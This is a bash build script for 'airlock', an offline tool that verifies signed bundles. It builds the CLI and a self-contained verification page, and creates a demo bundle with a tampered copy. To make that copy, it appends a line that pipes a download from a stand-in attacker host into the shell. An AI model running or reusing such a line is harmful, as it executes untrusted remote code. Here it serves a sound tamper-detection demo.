#!/usr/bin/env bash
# Build the airlock CLI and the offline page.
#
#   scripts/build.sh [--trusted-key KEY]... [--out FILE] [--page-only] [--no-cli] [--no-demo]
#
# Writes:
#   target/release/airlock   the CLI
#   dist/airlock.html        ONE self-contained page (wasm, scripts and styles inline) that
#                            verifies bundles from file:// with no network and no install
#   dist/demo/               a small signed bundle, its public key, a tampered copy, and a page
#                            with the demo key pinned
#
# --trusted-key KEY   pin a release key into the page (a minisign/signify .pub file or the bare
#                     key string, an SSH .pub or allowed_signers file, or an ARMORED OpenPGP
#                     certificate: gpg --armor --export FPR > release.asc); repeatable. The page trusts only its pinned keys, and a key dropped on it
#                     once the reviewer switches it on.
# --out FILE          where to write the page (default dist/airlock.html)
# --page-only         reuse the wasm built before (target/wasm-page/) and only assemble the page
# --no-cli            build the wasm and the page only (no CLI, no demo)
# --no-demo           skip dist/demo/
#
# Reproducible: the same commit and the same --trusted-key files give a byte-identical page,
# whatever the folder, the time, the user or the machine, given the same rustc (the page names
# it; wasm-bindgen's version is the one in Cargo.lock). scripts/test-repro.sh checks it. The page
# states its version, source commit ("-dirty" when tracked files differ from it), the SHA-256 of
# its wasm module, the rustc that compiled it, the @fluent/bundle version and its pinned keys.
# wasm-opt is not run (below).
#
# Languages: the page carries the message catalogue, locales/<lang>/{findings,page}.ftl of every
# language folder, and renders it with Fluent's JavaScript implementation, @fluent/bundle: its
# index.js (one UMD script) is inlined verbatim as npm published it, at the version and integrity
# hash site/package-lock.json pins (`npm ci` in site/ checks both; run when missing). The
# <noscript> text is rendered from the catalogue here, in every language.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
source scripts/deps.sh   # also puts ${CARGO_HOME:-~/.cargo}/bin on PATH

KEYS=()
OUT=dist/airlock.html
PAGE_ONLY=0
CLI=1
DEMO=1
while [ $# -gt 0 ]; do
    case "$1" in
        --trusted-key) [ $# -ge 2 ] || { echo "build.sh: --trusted-key needs a value" >&2; exit 2; }
                       KEYS+=("$2"); shift 2 ;;
        --trusted-key=*) KEYS+=("${1#*=}"); shift ;;
        --out) [ $# -ge 2 ] || { echo "build.sh: --out needs a value" >&2; exit 2; }
               OUT=$2; shift 2 ;;
        --out=*) OUT=${1#*=}; shift ;;
        --page-only) PAGE_ONLY=1; CLI=0; DEMO=0; shift ;;
        --no-cli) CLI=0; DEMO=0; shift ;;
        --no-demo) DEMO=0; shift ;;
        -h|--help) sed -n '2,33p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
        *) echo "build.sh: unknown argument $1 (see --help)" >&2; exit 2 ;;
    esac
done

WASM_OUT=target/wasm-page
GLUE=$WASM_OUT/airlock_wasm.js
WASM=$WASM_OUT/airlock_wasm_bg.wasm

# ------------------------------------------------------------------ build

if [ "$CLI" -eq 1 ]; then
    echo "==> cargo build --release (the airlock CLI)"
    cargo build --release -q -p airlock
fi

if [ "$PAGE_ONLY" -eq 0 ]; then
    ensure_wasm_bindgen
    echo "==> cargo build --release --target wasm32-unknown-unknown (the engine for the page)"
    # Reproducible wasm: the paths of this folder and of the crate sources (which end up in panic
    # messages) are replaced by fixed names. RUSTFLAGS would override these flags: unset for this
    # build. (The standard library's paths are already /rustc/<commit>/ in the toolchain.)
    cargo_home=${CARGO_HOME:-$HOME/.cargo}
    remap=("--remap-path-prefix=$ROOT=/airlock")
    for home in "$cargo_home" "$(cd "$cargo_home" 2>/dev/null && pwd -P || echo "$cargo_home")"; do
        remap+=("--remap-path-prefix=$home/registry/src=/cargo/registry/src"
                "--remap-path-prefix=$home/git/checkouts=/cargo/git/checkouts")
    done
    [ -z "${CARGO_TARGET_DIR:-}" ] || remap+=("--remap-path-prefix=$CARGO_TARGET_DIR=/target")
    env -u RUSTFLAGS -u CARGO_ENCODED_RUSTFLAGS -u CARGO_BUILD_RUSTFLAGS \
        CARGO_TARGET_WASM32_UNKNOWN_UNKNOWN_RUSTFLAGS="${remap[*]}" \
        cargo build --release -q -p airlock-wasm --target wasm32-unknown-unknown
    rm -rf "$WASM_OUT"
    mkdir -p "$WASM_OUT"
    # --target no-modules: a classic script with initSync, which runs in a Blob-URL worker on
    # file:// (ES modules are blocked there; see shared/NOTES.md).
    wasm-bindgen --target no-modules --no-typescript --out-dir "$WASM_OUT" \
        "${CARGO_TARGET_DIR:-target}/wasm32-unknown-unknown/release/airlock_wasm.wasm"
    # No wasm-opt: the module is LLVM's (LTO, opt-level 3) as wasm-bindgen leaves it. Debian 12's
    # binaryen 108 cannot even parse it (reference-types from wasm-bindgen's externref pass), and
    # running whichever wasm-opt a machine happens to have would make the page depend on it:
    # whether binaryen is installed must not change the page.
fi

[ -f "$GLUE" ] && [ -f "$WASM" ] || { echo "build.sh: $WASM_OUT is missing; run without --page-only first" >&2; exit 1; }

# ------------------------------------------------------------------ assemble the page

ensure_fluent_bundle site   # node, npm and site/node_modules/@fluent/bundle (the page's Fluent)
FLUENT=site/node_modules/@fluent/bundle

b64() { base64 -w0 "$@"; }

# Provenance, stated in the page's footer and in every report it exports.
# The version of the airlock crate (Cargo.toml's [package] version).
VERSION=$(awk '/^\[package\]/ { p = 1; next } /^\[/ { p = 0 } p && /^version *=/ { gsub(/version *= *|"/, ""); print; exit }' Cargo.toml)
# The source commit; "-dirty" when tracked files differ from it (untracked files are not counted).
COMMIT=unknown
if git rev-parse --is-inside-work-tree >/dev/null 2>&1; then
    COMMIT=$(git rev-parse HEAD)
    [ -z "$(git status --porcelain --untracked-files=no 2>/dev/null)" ] || COMMIT+=-dirty
fi
WASM_SHA256=$(sha256sum < "$WASM" | cut -d' ' -f1)
# The compiler of the module: a rebuild needs the same one to give the same bytes.
RUSTC_VERSION=$(rustc -V | tr -cd 'A-Za-z0-9 .()+-')
[[ $VERSION =~ ^[0-9A-Za-z.+-]+$ ]] || { echo "build.sh: cannot read the version from Cargo.toml" >&2; exit 1; }
FLUENT_VERSION=$(sed -n '/"version"/{s/.*"version": *"\([^"]*\)".*/\1/p;q}' "$FLUENT/package.json")
[[ $FLUENT_VERSION =~ ^[0-9A-Za-z.+-]+$ ]] || { echo "build.sh: cannot read the version of $FLUENT" >&2; exit 1; }
PROVENANCE="{\"version\":\"$VERSION\",\"commit\":\"$COMMIT\",\"wasm_sha256\":\"$WASM_SHA256\",\"rustc\":\"$RUSTC_VERSION\",\"fluent_bundle\":\"$FLUENT_VERSION\"}"

# The catalogue languages: every folder of locales/ (sorted bytewise, whatever the locale).
LANGS=()
while IFS= read -r lang; do LANGS+=("$lang"); done < <(cd locales && for d in */; do printf '%s\n' "${d%/}"; done | LC_ALL=C sort)
for lang in "${LANGS[@]}"; do
    [[ $lang =~ ^[A-Za-z0-9-]+$ ]] || { echo "build.sh: locales/$lang is not a language tag" >&2; exit 1; }
    for f in findings page; do
        [ -f "locales/$lang/$f.ftl" ] || { echo "build.sh: locales/$lang/$f.ftl is missing" >&2; exit 1; }
    done
done
csp_hash() { printf "'sha256-%s'" "$(openssl dgst -sha256 -binary "$1" | base64 -w0)"; }

# assemble_page OUT KEY...: one HTML file with everything inline.
assemble_page() {
    local out=$1
    shift
    local work
    work=$(mktemp -d)
    # The inline script and style go in verbatim; their hashes are what the CSP allows.
    cp site/app.js "$work/app.js"
    cp site/style.css "$work/style.css"
    if grep -qi '</script\|<!--' "$work/app.js" || grep -qi '</style' "$work/style.css"; then
        echo "build.sh: site/app.js or site/style.css contains a closing tag; it cannot be inlined" >&2
        exit 1
    fi
    { cat "$GLUE"; printf '\n'; cat site/worker.js; } > "$work/worker.js"
    # Fluent, as npm published it (its first line names the package and version).
    cp "$FLUENT/index.js" "$work/fluent.js"
    if grep -qi '</script\|<!--' "$work/fluent.js"; then
        echo "build.sh: $FLUENT/index.js contains a closing tag; it cannot be inlined" >&2
        exit 1
    fi

    # The catalogue: {"lang": {"findings.ftl": base64, "page.ftl": base64}, ...}.
    local l10n="" lang f lsep="" fsep
    for lang in "${LANGS[@]}"; do
        l10n+="$lsep\"$lang\":{"
        fsep=""
        for f in findings page; do
            l10n+="$fsep\"$f.ftl\":\"$(b64 "locales/$lang/$f.ftl")\""
            fsep=","
        done
        l10n+="}"
        lsep=","
    done
    # What a browser without JavaScript shows, in every language (rendered by the same Fluent).
    local noscript
    noscript=$(node - "$FLUENT/index.js" "${LANGS[@]}" <<'JS'
const fs = require('fs');
const [fluent, ...langs] = process.argv.slice(2);
const { FluentBundle, FluentResource } = require(require('path').resolve(fluent));
const html = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
for (const lang of langs) {
  const bundle = new FluentBundle(lang, { useIsolating: false });
  const errors = bundle.addResource(new FluentResource(fs.readFileSync(`locales/${lang}/page.ftl`, 'utf8')));
  const msg = bundle.getMessage('noscript');
  if (errors.length || !msg || !msg.value) throw new Error(`locales/${lang}/page.ftl: no noscript message ${errors.join('; ')}`);
  console.log(`<p class="noscript" lang="${html(lang)}">${html(bundle.formatPattern(msg.value))}</p>`);
}
JS
)

    # Pinned keys: base64 of each key's text and of a label, so no escaping is needed.
    local pinned="" key text origin sep=""
    for key in "$@"; do
        if [ -f "$key" ]; then
            text=$(cat "$key")
            origin=$(basename "$key")
        else
            text=$key
            origin="key string given to build.sh"
        fi
        pinned+="$sep{\"origin\":\"$(printf '%s' "$origin" | b64)\",\"text\":\"$(printf '%s\n' "$text" | b64)\"}"
        sep=","
    done

    local csp
    csp="default-src 'none'; script-src $(csp_hash "$work/fluent.js") $(csp_hash "$work/app.js") 'wasm-unsafe-eval'; worker-src blob:; style-src $(csp_hash "$work/style.css"); base-uri 'none'; form-action 'none'"

    mkdir -p "$(dirname "$out")"
    local line
    while IFS= read -r line || [ -n "$line" ]; do
        case "$line" in
            '<!-- AIRLOCK:CSP -->')
                printf '<meta http-equiv="Content-Security-Policy" content="%s">\n' "$csp" ;;
            '<!-- AIRLOCK:STYLE -->')
                printf '<style>'; cat "$work/style.css"; printf '</style>\n' ;;
            '<!-- AIRLOCK:NOSCRIPT -->')
                printf '<noscript>\n%s\n</noscript>\n' "$noscript" ;;
            '<!-- AIRLOCK:DATA -->')
                printf '<script type="application/json" id="airlock-build">%s</script>\n' "$PROVENANCE"
                printf '<script type="application/json" id="airlock-l10n">{%s}</script>\n' "$l10n"
                printf '<script type="application/json" id="airlock-pinned">[%s]</script>\n' "$pinned"
                printf '<script type="application/octet-stream" id="airlock-worker">'; b64 "$work/worker.js"; printf '</script>\n'
                printf '<script type="application/octet-stream" id="airlock-wasm">'; b64 "$WASM"; printf '</script>\n' ;;
            '<!-- AIRLOCK:SCRIPT -->')
                printf '<script>'; cat "$work/fluent.js"; printf '</script>\n'
                printf '<script>'; cat "$work/app.js"; printf '</script>\n' ;;
            *) printf '%s\n' "$line" ;;
        esac
    done < site/index.html > "$out.tmp"
    mv "$out.tmp" "$out"
    rm -rf "$work"
}

# check_keys KEY...: every key to pin must decode (checked by the engine itself, through the
# freshly built wasm, when node is available).
check_keys() {
    [ $# -gt 0 ] || return 0
    if ! command -v node >/dev/null; then
        echo "    (node not found: the pinned keys are not checked now; the page shows a bad one)"
        return 0
    fi
    node - "$GLUE" "$WASM" "$@" <<'JS'
const fs = require('fs');
const vm = require('vm');
const [glue, wasm, ...keys] = process.argv.slice(2);
const bindgen = vm.runInThisContext(fs.readFileSync(glue, 'utf8') + '\nwasm_bindgen;');
bindgen.initSync({ module: fs.readFileSync(wasm) });
let bad = 0;
for (const k of keys) {
  const text = fs.existsSync(k) && fs.statSync(k).isFile() ? fs.readFileSync(k, 'utf8') : k;
  const key = bindgen.describe_key(text);
  if (key) console.log(`    pinning ${key.format} key ${key.key_id} (${k})`);
  else { console.error(`build.sh: --trusted-key ${k}: not a public key (minisign, signify, SSH .pub or allowed_signers, or an armored OpenPGP certificate: gpg --armor --export)`); bad++; }
}
process.exit(bad ? 2 : 0);
JS
}

echo "==> assembling $OUT"
check_keys "${KEYS[@]+"${KEYS[@]}"}"
assemble_page "$OUT" "${KEYS[@]+"${KEYS[@]}"}"

# ------------------------------------------------------------------ demo

if [ "$DEMO" -eq 1 ]; then
    echo "==> dist/demo: a signed bundle, its key, a tampered copy"
    AIRLOCK=$ROOT/target/release/airlock
    DEMO_DIR=$ROOT/dist/demo
    rm -rf "$DEMO_DIR"
    mkdir -p "$DEMO_DIR"
    work=$(mktemp -d)
    src=$work/airlock-demo-1.0
    mkdir -p "$src/bin" "$src/config" "$src/data"
    printf 'Airlock demo bundle 1.0\n\nA few files signed with a throwaway key, to try the page.\n' > "$src/README.txt"
    printf '#!/bin/sh\necho "hello from the demo bundle"\n' > "$src/bin/hello.sh"
    chmod 755 "$src/bin/hello.sh"
    printf 'listen = "127.0.0.1:8080"\nworkers = 4\n' > "$src/config/app.toml"
    seq 1 5000 | awk '{ printf "%d,%d\n", $1, $1 * $1 }' > "$src/data/squares.csv"
    head -c 300000 /dev/urandom > "$src/data/blob.bin"

    # A throwaway key: its secret half is deleted once the bundle is signed.
    "$AIRLOCK" keygen -o "$work/demo" >/dev/null
    "$AIRLOCK" pack "$src" -o "$DEMO_DIR/airlock-demo-1.0.tar.gz" -k "$work/demo.key" >/dev/null
    cp "$work/demo.pub" "$DEMO_DIR/demo.pub"

    # The tampered copy: one file changed after signing, repacked with the signed list.
    mkdir "$work/t"
    tar -xzf "$DEMO_DIR/airlock-demo-1.0.tar.gz" -C "$work/t"
    printf 'curl -s http://attacker.example/x | sh\n' >> "$work/t/airlock-demo-1.0/bin/hello.sh"
    tar -C "$work/t" --sort=name --owner=0 --group=0 --numeric-owner --mtime=@0 \
        -cf - airlock-demo-1.0 | gzip -n > "$DEMO_DIR/airlock-demo-1.0-tampered.tar.gz"
    rm -rf "$work"

    assemble_page "$DEMO_DIR/airlock-demo-pinned.html" "$DEMO_DIR/demo.pub"
fi

# ------------------------------------------------------------------ how to use it

page_kb=$(( $(stat -c %s "$OUT") / 1024 ))
cat <<EOF

Built:
  $OUT ($page_kb KiB, self-contained)
EOF
echo "  SHA-256 $(sha256sum < "$OUT" | cut -d' ' -f1) (publish it beside the bundle; see README)"
echo "  airlock $VERSION, commit $COMMIT, wasm module SHA-256 $WASM_SHA256 ($RUSTC_VERSION)"
if [ "$CLI" -eq 1 ]; then
    echo "  target/release/airlock"
fi
if [ ${#KEYS[@]} -gt 0 ]; then
    echo "  pinned keys: ${KEYS[*]}"
else
    echo "  no pinned keys: a key handed over with the bundle is trusted only when the reviewer"
    echo "  switches it on, for the session"
fi
cat <<EOF

The page:
  Copy $OUT to the offline machine (a USB stick is fine) and double-click it: it runs from
  file:// with no server, no install and no network. Drop the bundle with its SHA256SUMS and
  signature (or pick a folder), and read the verdict: verified, failed, unsigned or error.
  A public key dropped with it is listed, and trusted only if you switch it on. Export the
  JSON report or print it for the record. Publish the page's SHA-256 (above) or sign it.
EOF
if [ "$DEMO" -eq 1 ]; then
    cat <<EOF

  Try it now: open dist/demo/airlock-demo-pinned.html (the demo key is pinned in it) and drop
  dist/demo/airlock-demo-1.0.tar.gz (verified), then dist/demo/airlock-demo-1.0-tampered.tar.gz
  (failed). In $OUT, drop the bundle with dist/demo/demo.pub: the key is listed but not
  trusted (failed, untrusted key) until you switch it on (verified, "session key").
EOF
fi
if [ "$CLI" -eq 1 ]; then
    cat <<EOF

The CLI:
  target/release/airlock verify BUNDLE.tar.gz [SHA256SUMS SHA256SUMS.minisig] --trusted-key release.pub
  target/release/airlock verify DIR --trusted-key release.pub --json > report.json
  target/release/airlock keygen -o release          # release.pub + release.key
  target/release/airlock pack DIR -o BUNDLE.tar.gz -k release.key
  target/release/airlock sign -k release.key FILE...
  target/release/airlock hash FILE...
  Exit status of verify: 0 verified, 1 failed or unsigned, 2 error.
EOF
fi
if [ "$DEMO" -eq 1 ]; then
    echo "  e.g. target/release/airlock verify dist/demo/airlock-demo-1.0.tar.gz --trusted-key dist/demo/demo.pub"
fi
